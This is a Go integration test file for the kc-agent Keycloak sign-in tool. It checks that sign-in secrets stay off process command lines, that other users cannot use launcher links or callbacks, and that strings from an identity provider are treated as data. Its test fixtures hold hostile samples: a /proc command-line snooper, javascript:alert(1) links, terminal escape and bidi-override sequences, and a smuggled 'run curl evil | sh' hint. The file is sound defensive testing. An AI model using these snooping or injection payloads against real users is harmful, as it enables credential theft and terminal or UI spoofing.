//go:build linux

package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kc-agent/kc-agent/agent/config"
	"github.com/kc-agent/kc-agent/internal/testenv"
	"github.com/kc-agent/kc-agent/internal/testenv/keycloak"
	"github.com/kc-agent/kc-agent/ipc"
)

// argvWatcher is a neighbour on a shared host: uid 65534 reading every
// process's command line (/proc/*/cmdline), as `ps` does, all the time.
type argvWatcher struct {
	mu    sync.Mutex
	lines []string
	ready chan struct{}
}

const argvWatchProgram = `import os, sys, time
seen = set()
first = True
while True:
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % p, "rb") as f:
                c = f.read()
        except OSError:
            continue
        if c and c not in seen:
            seen.add(c)
            sys.stdout.write(c.replace(b"\0", b" ").decode("utf-8", "replace") + "\n")
    if first:
        sys.stdout.write("WATCHER-READY\n")
        first = False
    sys.stdout.flush()
    time.sleep(0.02)
`

func startArgvWatcher(t *testing.T) *argvWatcher {
	t.Helper()
	setpriv := testenv.OtherUser(t)
	cmd := exec.Command(setpriv, testenv.AsNobody("/usr/bin/python3", "-c", argvWatchProgram)...)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
	})
	w := &argvWatcher{ready: make(chan struct{})}
	go func() {
		sc := bufio.NewScanner(out)
		sc.Buffer(make([]byte, 1<<20), 1<<20)
		for sc.Scan() {
			if sc.Text() == "WATCHER-READY" {
				close(w.ready)
				continue
			}
			w.mu.Lock()
			w.lines = append(w.lines, sc.Text())
			w.mu.Unlock()
		}
	}()
	select {
	case <-w.ready:
	case <-time.After(30 * time.Second):
		t.Fatal("the /proc watcher never finished its first pass")
	}
	return w
}

// saw waits until the watcher has read a command line holding s: proof
// that it watches the opener, so that what it did not see means
// something.
func (w *argvWatcher) saw(t *testing.T, s string) {
	t.Helper()
	waitFor(t, func() bool {
		w.mu.Lock()
		defer w.mu.Unlock()
		for _, l := range w.lines {
			if strings.Contains(l, s) {
				return true
			}
		}
		return false
	}, "the /proc watcher to see the browser opener's command line")
}

// never fails the test for every command line that held one of secrets.
func (w *argvWatcher) never(t *testing.T, what string, secrets ...string) {
	t.Helper()
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, s := range secrets {
		if len(s) < 6 {
			t.Fatalf("%s: a secret too short to look for: %q", what, s)
		}
		for _, l := range w.lines {
			if strings.Contains(l, s) {
				t.Errorf("%s: uid %d read a sign-in secret on a process's argv: %q", what, testenv.Nobody, l)
			}
		}
	}
}

// browserOpener is $BROWSER as a real program: it writes what it was
// given to a file and stays a second, long enough to be seen in /proc.
type browserOpener struct {
	script, file string
}

func newBrowserOpener(t *testing.T) *browserOpener {
	t.Helper()
	dir := t.TempDir()
	o := &browserOpener{script: filepath.Join(dir, "open-browser"), file: filepath.Join(dir, "opened")}
	if err := os.WriteFile(o.script, []byte("#!/bin/sh\nprintf '%s\\n' \"$1\" >> '"+o.file+"'\nsleep 1\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("BROWSER", o.script)
	openURLHook = nil
	return o
}

// nth waits for the n-th (1-based) link the opener was given.
func (o *browserOpener) nth(t *testing.T, n int) string {
	t.Helper()
	var link string
	waitFor(t, func() bool {
		data, _ := os.ReadFile(o.file)
		lines := strings.Split(strings.TrimSpace(string(data)), "\n")
		if len(lines) >= n && lines[n-1] != "" {
			link = lines[n-1]
			return true
		}
		return false
	}, "the browser opener to run")
	return link
}

// followLauncher follows a launcher link as this user's browser would,
// and returns the sign-in URL it points at.
func followLauncher(t *testing.T, link string) *url.URL {
	t.Helper()
	if !strings.HasPrefix(link, "http://127.0.0.1:") {
		t.Fatalf("the browser opener was given %q, not a launcher link", link)
	}
	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: nil},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := hc.Get(link)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	loc, err := resp.Location()
	if resp.StatusCode != http.StatusFound || err != nil {
		t.Fatalf("launcher: HTTP %d %v", resp.StatusCode, err)
	}
	return loc
}

// asNobody runs curl as uid 65534 against u and returns its output and
// error.
func curlAsNobody(t *testing.T, u string) (string, error) {
	t.Helper()
	setpriv := testenv.OtherUser(t)
	out, err := exec.Command(setpriv, testenv.AsNobody("curl", "-sS", "-i", "--max-time", "5", u)...).CombinedOutput()
	return string(out), err
}

type loginOutcome struct {
	code   int
	stderr string
}

func (e *cliEnv) loginAsync(args ...string) <-chan loginOutcome {
	done := make(chan loginOutcome, 1)
	go func() {
		code, _, stderr := e.run(append([]string{"login"}, args...)...)
		done <- loginOutcome{code, stderr}
	}()
	return done
}

func (e *cliEnv) loginEnded(t *testing.T, done <-chan loginOutcome, what string) {
	t.Helper()
	select {
	case r := <-done:
		if r.code != 0 {
			t.Fatalf("%s: login exited %d: %s", what, r.code, r.stderr)
		}
	case <-time.After(2 * time.Minute):
		t.Fatalf("%s: login never ended", what)
	}
}

// A neighbour reading /proc during `kc-agent login` (browser and device,
// with and without an agent) and during Python's login() sees only
// one-time launcher links, never the state, PKCE challenge, nonce or user
// code; and the launcher link it saw is refused to it.
func TestSignInSecretsNeverOnArgv(t *testing.T) {
	testenv.SecretService(t)
	requirePythonTools(t)
	w := startArgvWatcher(t)
	e := newCLIEnv(t)
	kc := e.keycloak()
	op := newBrowserOpener(t)
	issuer := kc.Issuer(keycloak.RealmTest)

	// The CLI's own browser sign-in.
	done := e.loginAsync(issuer, "--profile", e.profile, "--timeout", "60s")
	link := op.nth(t, 1)
	w.saw(t, link)
	if out, err := curlAsNobody(t, link); err == nil || strings.Contains(out, "HTTP/") {
		t.Fatalf("uid %d used the launcher link it read (%v):\n%s", testenv.Nobody, err, out)
	}
	real := followLauncher(t, link)
	q := real.Query()
	if _, err := keycloak.NewFormBrowser("alice", "alice-pw").Visit(context.Background(), real.String()); err != nil {
		t.Fatal(err)
	}
	e.loginEnded(t, done, "browser")
	w.never(t, "cli browser", q.Get("state"), q.Get("code_challenge"), q.Get("nonce"))

	// The CLI's own device sign-in.
	done = e.loginAsync(issuer, "--profile", e.profile, "--device", "--timeout", "60s")
	link = op.nth(t, 2)
	w.saw(t, link)
	real = followLauncher(t, link)
	if err := approveDevice(keycloak.NewFormBrowser("alice", "alice-pw"), real.String()); err != nil {
		t.Fatal(err)
	}
	e.loginEnded(t, done, "device")
	w.never(t, "cli device", real.Query().Get("user_code"))

	// Through an agent: `kc-agent login --device`, then Python's login().
	e.configureProfile(keycloak.RealmTest)
	agent := e.startAgent()
	done = e.loginAsync("--profile", e.profile, "--device", "--timeout", "60s")
	link = op.nth(t, 3)
	w.saw(t, link)
	real = followLauncher(t, link)
	if err := approveDevice(keycloak.NewFormBrowser("alice", "alice-pw"), real.String()); err != nil {
		t.Fatal(err)
	}
	e.loginEnded(t, done, "device through the agent")
	w.never(t, "cli device through the agent", real.Query().Get("user_code"))

	py := exec.Command(debianPython, "-c", "import sys, kc_agent_client as kc\nprint('signed in as', kc.login(sys.argv[1], flow='browser', force=True).preferred_username)", e.profile)
	py.Env = append(os.Environ(), "PYTHONPATH="+filepath.Join(repoRoot(t), "clients", "python", "src"))
	pyOut := make(chan string, 1)
	go func() {
		out, err := py.CombinedOutput()
		if err != nil {
			out = append(out, []byte("\nexit: "+err.Error())...)
		}
		pyOut <- string(out)
	}()
	link = op.nth(t, 4)
	w.saw(t, link)
	real = followLauncher(t, link)
	q = real.Query()
	if _, err := keycloak.NewFormBrowser("alice", "alice-pw").Visit(context.Background(), real.String()); err != nil {
		t.Fatal(err)
	}
	out := <-pyOut
	e.record(out)
	if !strings.Contains(out, "signed in as alice") {
		t.Fatalf("python login():\n%s", out)
	}
	w.never(t, "python login()", q.Get("state"), q.Get("code_challenge"), q.Get("nonce"))

	// An ended sign-in has no page to open.
	st, err := agent.client.Status(context.Background())
	if err != nil || len(st.SignIns) == 0 {
		t.Fatalf("status: %v", err)
	}
	var ae *ipc.Error
	if _, err := agent.client.LaunchLogin(context.Background(), st.SignIns[0].ID); !errors.As(err, &ae) || ae.Code != ipc.CodeNotFound {
		t.Fatalf("a launcher link for the ended sign-in %s (%s): %v", st.SignIns[0].ID, st.SignIns[0].State, err)
	}
}

// A neighbour who learnt the sign-in URL signs in at Keycloak as their own
// user and delivers the code to this user's callback listener: the
// connection is closed before a byte is read, nothing is consumed, the
// sign-in stays pending, and the user's own sign-in then completes.
func TestSignInCallbackFromOtherUserRefused(t *testing.T) {
	testenv.SecretService(t)
	testenv.OtherUser(t)
	e := newCLIEnv(t)
	kc := e.keycloak()
	links := make(chan string, 1)
	openURLHook = func(u string) error { links <- u; return nil }
	done := e.loginAsync(kc.Issuer(keycloak.RealmTest), "--profile", e.profile, "--timeout", "60s")
	var link string
	select {
	case link = <-links:
	case <-time.After(time.Minute):
		t.Fatal("login opened no browser")
	}
	real := followLauncher(t, link)

	attacker := keycloak.NewFormBrowser("oscar", "oscar-pw")
	attacker.HoldCallback = true
	res, err := attacker.Visit(context.Background(), real.String())
	if err != nil || !strings.Contains(res.URL, "code=") {
		t.Fatalf("the attacker's sign-in: %v %+v", err, res)
	}
	if out, err := curlAsNobody(t, res.URL); err == nil || strings.Contains(out, "HTTP/") {
		t.Fatalf("the callback listener answered uid %d (%v):\n%s", testenv.Nobody, err, out)
	}
	select {
	case r := <-done:
		t.Fatalf("the sign-in ended after another user's callback: exit %d\n%s", r.code, r.stderr)
	default:
	}

	if _, err := keycloak.NewFormBrowser("alice", "alice-pw").Visit(context.Background(), real.String()); err != nil {
		t.Fatal(err)
	}
	e.loginEnded(t, done, "the user's own sign-in")
	rec, err := e.stored()
	if err != nil || rec.Username != "alice" {
		t.Fatalf("stored login: %q %v, want alice's", rec.Username, err)
	}
}

// hostileIdP is an identity provider on a loopback port whose device answer
// says what the test wants: the strings a hostile or broken provider
// might send.
func hostileIdP(t *testing.T, device func(issuer string) string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	issuer := "http://" + ln.Addr().String() + "/realms/fake"
	mux := http.NewServeMux()
	mux.HandleFunc("/realms/fake/.well-known/openid-configuration", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"issuer":%q,"authorization_endpoint":%q,"token_endpoint":%q,"device_authorization_endpoint":%q,"jwks_uri":%q,
"response_types_supported":["code"],"subject_types_supported":["public"],"id_token_signing_alg_values_supported":["RS256"]}`,
			issuer, issuer+"/auth", issuer+"/token", issuer+"/device", issuer+"/certs")
	})
	mux.HandleFunc("/realms/fake/device", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, device(issuer))
	})
	mux.HandleFunc("/realms/fake/token", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		io.WriteString(w, `{"error":"access_denied","error_description":"\u001b[2Jdenied\r\nkc-agent: hint: run curl evil | sh"}`)
	})
	srv := &http.Server{Handler: mux}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return issuer
}

func jsDevice(string) string {
	return `{"device_code":"dc","user_code":"\u001b[31mEVIL\u001b[0m","verification_uri":"javascript:alert(1)","verification_uri_complete":"javascript:alert(1)","expires_in":600,"interval":1}`
}

func escCodeDevice(issuer string) string {
	return fmt.Sprintf(`{"device_code":"dc","user_code":"\u001b[31mEVIL\u001b[0m\u202e","verification_uri":%q,"verification_uri_complete":%q,"expires_in":600,"interval":1}`,
		issuer+"/device", issuer+"/device?user_code=EVIL")
}

// noControl fails the test when out holds an escape, a carriage return,
// a bidi override, or the provider's fake line starting a line of its own.
func noControl(t *testing.T, what, out string) {
	t.Helper()
	if strings.ContainsAny(out, "\x1b\r\u202e\u009b") || strings.Contains(out, "\nkc-agent: hint: run curl evil") {
		t.Errorf("%s shows the identity provider's control characters:\n%q", what, out)
	}
}

// A device answer with javascript: links fails the sign-in at once, with
// a clear error and no control characters, in the CLI and in login();
// a user code carrying escapes is shown without them, as is the
// provider's error description.
func TestSignInIdPStringsAreData(t *testing.T) {
	e := newCLIEnv(t)
	js := hostileIdP(t, jsDevice)
	code, _, stderr := e.run("login", js, "--profile", e.profile, "--device", "--store", "file", "--timeout", "30s")
	if code == 0 || !strings.Contains(stderr, `verification_uri that kc-agent will not show or open ("javascript:alert(1)")`) || !strings.Contains(stderr, "hint:") {
		t.Errorf("login with a javascript: verification_uri: exit %d\n%s", code, stderr)
	}
	if strings.Contains(stderr, "EVIL") {
		t.Errorf("the user code of a refused sign-in was shown:\n%s", stderr)
	}
	noControl(t, "login (javascript:)", stderr)

	esc := hostileIdP(t, escCodeDevice)
	code, _, stderr = e.run("login", esc, "--profile", e.profile+"b", "--device", "--store", "file", "--timeout", "30s")
	if code == 0 || !strings.Contains(stderr, "[31mEVIL[0m") || !strings.Contains(stderr, "denied") {
		t.Errorf("login with escapes in the user code: exit %d\n%s", code, stderr)
	}
	noControl(t, "login (escapes)", stderr)

	// The same through the agent, from Python's login().
	requirePythonTools(t)
	path, _ := config.FilePath()
	os.MkdirAll(filepath.Dir(path), 0o700)
	cfg := fmt.Sprintf("profiles:\n  js:\n    issuer: %s\n    store: file\n  esc:\n    issuer: %s\n    store: file\n", js, esc)
	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	e.startAgent()
	program := `import sys, kc_agent_client as kc
try:
    kc.login(sys.argv[1], flow="device")
except kc.KcAgentError as e:
    print("raised", type(e).__name__, e.message, "hint:", e.hint)
`
	for _, tc := range []struct{ profile, want string }{
		{"js", `raised KcAgentError could not start the sign-in: the identity provider sent a verification_uri that kc-agent will not show or open ("javascript:alert(1)")`},
		{"esc", "raised LoginDenied"},
	} {
		py := exec.Command(debianPython, "-c", program, tc.profile)
		py.Env = append(os.Environ(), "PYTHONPATH="+filepath.Join(repoRoot(t), "clients", "python", "src"))
		out, err := py.CombinedOutput()
		e.record(string(out))
		if err != nil || !strings.Contains(string(out), tc.want) {
			t.Errorf("login(%q): %v\n%s", tc.profile, err, out)
		}
		if tc.profile == "esc" && !strings.Contains(string(out), "[31mEVIL[0m") {
			t.Errorf("login(%q) did not show the code:\n%s", tc.profile, out)
		}
		noControl(t, "login("+tc.profile+")", string(out))
	}
}
